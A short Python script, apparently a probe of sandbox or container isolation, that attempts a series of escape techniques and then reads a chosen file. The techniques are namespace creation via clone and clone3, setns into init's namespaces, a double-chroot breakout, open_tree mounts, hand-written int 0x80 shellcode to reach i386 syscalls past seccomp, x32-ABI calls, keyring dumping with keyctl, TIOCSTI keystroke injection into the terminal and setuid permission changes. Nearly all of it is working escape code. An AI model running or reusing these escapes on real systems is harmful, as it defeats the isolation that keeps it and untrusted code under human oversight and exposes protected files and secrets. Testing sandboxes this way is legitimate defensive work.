# Calls of the kernel that lead elsewhere, then a look at PATH: calls.py CALL PATH
import ctypes, os, platform, struct, sys
call, path = sys.argv[1:]
c = ctypes.CDLL(None, use_errno=True)
def told(result):
    print(call, result, os.strerror(ctypes.get_errno()) if result == -1 else "")
    return result
def look():
    try: sys.stdout.buffer.write(open(path, "rb").read())
    except OSError as fault: print(fault)
def open_all_mounts():
    c.umount2(b"/tmp", 2); c.umount2(b"/run", 2); look()
if call == "clone_newuser":
    pid = told(c.syscall(56 if platform.machine() == "x86_64" else 220, 0x10020000 | 17, 0, 0, 0, 0))
    if pid == 0: open_all_mounts(); os._exit(0)
elif call == "clone3":
    about = ctypes.create_string_buffer(struct.pack("Q", 0x10020000) + bytes(24) + struct.pack("Q", 17), 88)
    pid = told(c.syscall(435, about, 88))
    if pid == 0: open_all_mounts(); os._exit(0)
elif call == "setns":
    for kind in ("user", "mnt", "net", "pid"):
        told(c.setns(os.open("/proc/1/ns/" + kind, 0), 0))
    look()
elif call == "chroot":
    f = os.open("/", 0)
    told(c.chroot(b"c")); os.fchdir(f)
    for _ in range(40): os.chdir("..")
    told(c.chroot(b".")); look()
elif call == "open_tree":
    f = told(c.syscall(428, -100, b"/", 0x8001)); told(c.syscall(429, f, b"", -100, b"/mnt", 4)); look()
elif call == "fsopen":
    told(c.syscall(430, b"tmpfs", 0)); told(c.syscall(430, b"ext4", 0)); look()
elif call in ("int80", "x32"):
    if platform.machine() != "x86_64": sys.exit(127)
    if call == "x32": told(c.syscall(0x40000000 | 161, b"/")); told(c.syscall(0x40000000 | 272, 0x10020000)); look(); sys.exit()
    import mmap
    page = mmap.mmap(-1, 4096, prot=7)
    # mov eax, 310 (unshare of i386); mov ebx, CLONE_NEWUSER | CLONE_NEWNS; int 0x80; ret
    page.write(b"\xb8" + struct.pack("I", 310) + b"\xbb" + struct.pack("I", 0x10020000) + b"\xcd\x80\xc3")
    told(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
    open_all_mounts()
elif call == "keyctl":
    for ring in (-1, -2, -3, -4, -5):
        ident = c.syscall(250, 0, ring, 0)
        text = ctypes.create_string_buffer(65536)
        told(c.syscall(250, 11, ring, text, 65536)); print(text.raw[:200])
    told(c.syscall(248, b"user", b"escape", b"x", 1, -4)); look()
elif call == "fanotify":
    f = told(c.syscall(300 if platform.machine() == "x86_64" else 262, 0, 0)); look()
elif call == "tiocsti":
    import fcntl
    for each in path: fcntl.ioctl(0, 0x5412, each.encode())
elif call == "fchmodat2":
    open(path, "w").write("x"); told(c.syscall(452, -100, path.encode(), 0o4755, 0))
